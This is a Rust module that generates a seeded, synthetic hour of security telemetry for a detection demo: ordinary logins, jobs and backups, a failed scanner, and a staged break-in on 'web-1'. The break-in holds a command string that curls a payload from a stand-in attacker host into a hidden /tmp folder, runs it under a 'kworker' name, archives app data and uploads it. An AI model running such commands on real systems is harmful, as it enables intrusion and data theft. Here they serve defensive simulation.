//! The story of the demo: an hour of three collectors, most of it harmless.
//!
//! Somebody guesses passwords at `web-1` until one fits, starts a program from a temporary folder and
//! uploads what it has packed. Around it people work, mistype passwords and make backups, and a
//! scanner knocks at another host without getting in. The same seed gives the same story.

use larum_event::Timestamp;
use serde_json::Value;

use super::collectors::{Flow, Login, Planned, Process, Step, in_order, session};
use super::random::Random;

/// When the story begins: a night in the past, so that no clock takes it for the future.
const START: &str = "2025-11-20T02:00:00Z";
const SECOND: u64 = 1_000;
const MINUTE: u64 = 60 * SECOND;
const HOUR: u64 = 60 * MINUTE;

/// The host that is broken into.
pub const VICTIM: &str = "web-1";
/// Where the guesses come from.
pub const ATTACKER: &str = "203.0.113.66";
/// Where the loot goes.
const DROP: &str = "198.51.100.23";
/// The loot, and the hash by which the network monitor knows it.
const LOOT: (&str, &str) = (
    "s.tgz",
    "5c8a3f8e2b6d4f1097e1c2ab34d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f7",
);
/// Who knocks without getting in.
const SCANNER: &str = "198.51.100.7";
/// Where the backups go, a known address.
const BACKUP: &str = "192.0.2.50";

const HOSTS: [&str; 5] = ["web-1", "web-2", "db-1", "build-1", "mail-1"];
const PEOPLE: [&str; 8] = ["ada", "ben", "cho", "dov", "eve", "fay", "gus", "hal"];
const GUESSED: [&str; 6] = ["root", "admin", "deploy", "test", "oracle", "ubuntu"];
const PROGRAMS: [(&str, &str); 8] = [
    ("/bin/ls", "ls -la /srv"),
    ("/usr/bin/git", "git pull --ff-only"),
    ("/usr/bin/less", "less /var/log/syslog"),
    ("/usr/bin/systemctl", "systemctl status app"),
    ("/usr/bin/psql", "psql -h db-1 app"),
    ("/usr/bin/vim", "vim /etc/app/app.toml"),
    ("/usr/bin/curl", "curl -s http://10.0.0.5/health"),
    ("/usr/bin/rsync", "rsync -a /srv/app/ backup:/srv/app/"),
];
const INSIDE: [&str; 4] = ["10.0.0.5", "10.0.0.12", "10.0.3.7", "192.168.7.20"];

/// The story as it is told.
pub struct Story {
    /// Events in the order of time.
    pub events: Vec<(Timestamp, Value)>,
    /// The correlation id at the root of the incident.
    pub incident: String,
}

/// The story of a seed.
pub fn story(seed: u64) -> Story {
    let mut telling = Telling {
        random: Random::new(seed),
        planned: Vec::new(),
        contacts: 0,
        processes: 1_000,
        flows: 0,
    };
    let mut at = 0;
    while at < HOUR {
        telling.day_to_day(at);
        at += telling.random.between(8 * SECOND, 24 * SECOND);
    }
    for minute in 0..60 {
        telling.scheduled_jobs(minute * MINUTE + 30 * SECOND);
    }
    telling.scanner(11 * MINUTE);
    let incident = telling.incident(24 * MINUTE);
    let start = Timestamp::parse(START).expect("the start is a time");
    Story {
        events: in_order(start, telling.planned),
        incident,
    }
}

struct Telling {
    random: Random,
    planned: Vec<Planned>,
    contacts: u64,
    processes: u64,
    flows: u64,
}

impl Telling {
    /// Somebody logs in, sometimes at the second try, works for a while and leaves.
    fn day_to_day(&mut self, begin: u64) {
        let user = *self.random.pick(&PEOPLE);
        let host = *self.random.pick(&HOSTS);
        let address = format!(
            "10.1.{}.{}",
            self.random.between(0, 3),
            self.random.between(2, 250)
        );
        let contact = self.contact();
        let mut login = Login {
            step: &contact,
            host,
            address: &address,
            user,
            method: "publickey",
            outcome: "success",
        };
        let mut at = begin;
        if self.random.chance(15) {
            login.method = "password";
            login.outcome = "failure";
            for _ in 0..self.random.between(1, 2) {
                self.plan(at, login.report());
                at += self.random.between(2 * SECOND, 9 * SECOND);
            }
            login.outcome = "success";
        }
        self.plan(at, login.report());
        let opened = self.open_session(&contact, host, user, at + 50);
        let shell = self.shell(&opened, (host, user), at + 90);
        at += 90;
        for _ in 0..self.random.between(3, 9) {
            at += self.random.between(SECOND, 40 * SECOND);
            let (image, command) = *self.random.pick(&PROGRAMS);
            let step = self.process_step(&shell);
            let process = Process {
                step: &step,
                host,
                user,
                image,
                command,
                parent_image: "/bin/bash",
            };
            self.plan(at, process.report());
            if self.random.chance(45) {
                let address = *self.random.pick(&INSIDE);
                let (bytes_out, port) = (self.random.between(300, 90_000), 443);
                self.flow((&step, host), (address, port), bytes_out, at + 700);
            }
        }
        let end = at + self.random.between(5 * SECOND, 60 * SECOND);
        self.plan(end, session(&opened, host, user, false));
    }

    /// Every minute each host runs its jobs; the database is backed up to a known address.
    fn scheduled_jobs(&mut self, at: u64) {
        for host in HOSTS {
            let job = Step::job(format!("job-{host}-{}", at / MINUTE));
            let step = self.process_step(&job);
            let process = Process {
                step: &step,
                host,
                user: "root",
                image: "/usr/sbin/logrotate",
                command: "logrotate /etc/logrotate.conf",
                parent_image: "/usr/sbin/cron",
            };
            let jitter = self.random.between(0, 900);
            self.plan(at + jitter, process.report());
            if host == "db-1" && (at / MINUTE).is_multiple_of(15) {
                self.flow((&step, host), (BACKUP, 22), 80_000_000, at + 20 * SECOND);
            }
        }
    }

    /// A scanner fails a few times and goes: one alert, and nothing comes of it.
    fn scanner(&mut self, begin: u64) {
        let contact = self.contact();
        for attempt in 0..7 {
            let login = Login {
                step: &contact,
                host: "mail-1",
                address: SCANNER,
                user: "root",
                method: "password",
                outcome: "failure",
            };
            let jitter = self.random.between(0, 4 * SECOND);
            self.plan(begin + attempt * 12 * SECOND + jitter, login.report());
        }
    }

    /// The break-in; the answer is its root.
    fn incident(&mut self, begin: u64) -> String {
        let contact = self.contact();
        let user = "deploy";
        let mut login = Login {
            step: &contact,
            host: VICTIM,
            address: ATTACKER,
            user,
            method: "password",
            outcome: "failure",
        };
        let mut at = begin;
        for _ in 0..48 {
            login.user = *self.random.pick(&GUESSED);
            self.plan(at, login.report());
            at += self.random.between(2 * SECOND, 5 * SECOND);
        }
        login.user = user;
        login.outcome = "success";
        self.plan(at, login.report());
        let opened = self.open_session(&contact, VICTIM, user, at + 60);
        let shell = self.shell(&opened, (VICTIM, user), at + 110);

        let step = self.process_step(&shell);
        let download = "curl -so /tmp/.x/kworker http://203.0.113.66/k";
        self.run(
            &step,
            ("/usr/bin/curl", download, "/bin/bash"),
            at + 40 * SECOND,
        );
        self.flow((&step, VICTIM), (ATTACKER, 80), 420, at + 41 * SECOND);

        let worker = self.process_step(&shell);
        let image = "/tmp/.x/kworker";
        self.run(
            &worker,
            (image, "/tmp/.x/kworker -q", "/bin/bash"),
            at + 75 * SECOND,
        );

        let step = self.process_step(&worker);
        let pack = "tar czf /tmp/.x/s.tgz /srv/app /etc/app";
        self.run(&step, ("/bin/tar", pack, image), at + 3 * MINUTE);
        self.upload(&worker, at + 6 * MINUTE);
        self.plan(at + 8 * MINUTE, session(&opened, VICTIM, user, false));
        contact.id
    }

    /// A process of the break-in: image, command line and the parent's image.
    fn run(&mut self, step: &Step, (image, command, parent_image): (&str, &str, &str), at: u64) {
        let process = Process {
            step,
            host: VICTIM,
            user: "deploy",
            image,
            command,
            parent_image,
        };
        self.plan(at, process.report());
    }

    fn open_session(&mut self, contact: &Step, host: &str, user: &str, at: u64) -> Step {
        let number = contact.id.trim_start_matches("contact-");
        let step = contact.below(format!("session-{number}"), "session");
        self.plan(at, session(&step, host, user, true));
        step
    }

    /// The shell of a session.
    fn shell(&mut self, opened: &Step, (host, user): (&str, &str), at: u64) -> Step {
        let step = self.process_step(opened);
        let process = Process {
            step: &step,
            host,
            user,
            image: "/bin/bash",
            command: "-bash",
            parent_image: "/usr/sbin/sshd",
        };
        self.plan(at, process.report());
        step
    }

    /// A connection that a process on a host opened, to an address and port.
    fn flow(&mut self, (process, host): (&Step, &str), to: (&str, u16), bytes_out: u64, at: u64) {
        self.flows += 1;
        let step = process.below(format!("flow-{}", self.flows), "network");
        let flow = Flow {
            step: &step,
            host,
            address: to.0,
            port: to.1,
            bytes_out,
            bytes_in: self.random.between(200, 40_000),
            file: None,
        };
        self.plan(at, flow.report());
    }

    /// The loot leaves.
    fn upload(&mut self, process: &Step, at: u64) {
        self.flows += 1;
        let step = process.below(format!("flow-{}", self.flows), "network");
        let flow = Flow {
            step: &step,
            host: VICTIM,
            address: DROP,
            port: 443,
            bytes_out: 48_731_204,
            bytes_in: self.random.between(200, 40_000),
            file: Some(LOOT),
        };
        self.plan(at, flow.report());
    }

    fn contact(&mut self) -> Step {
        self.contacts += 1;
        Step::contact(self.contacts)
    }

    fn process_step(&mut self, parent: &Step) -> Step {
        self.processes += 1;
        parent.below(format!("process-{}", self.processes), "execution")
    }

    fn plan(&mut self, at: u64, event: Value) {
        self.planned.push(Planned { at, event });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_story_is_an_hour_of_thousands_of_events_in_order_and_its_seed_decides_it() {
        let told = story(7);
        assert!(told.events.len() > 2_000, "{}", told.events.len());
        assert!(told.events.is_sorted_by_key(|(time, _)| *time));
        let (first, last) = (
            told.events.first().unwrap().0,
            told.events.last().unwrap().0,
        );
        let minutes = last.since(first).as_nanos() / 60_000_000_000;
        assert!((59..75).contains(&minutes), "{minutes} minutes");
        assert_eq!(told.events, story(7).events);
        assert_ne!(told.events, story(8).events);
    }
}
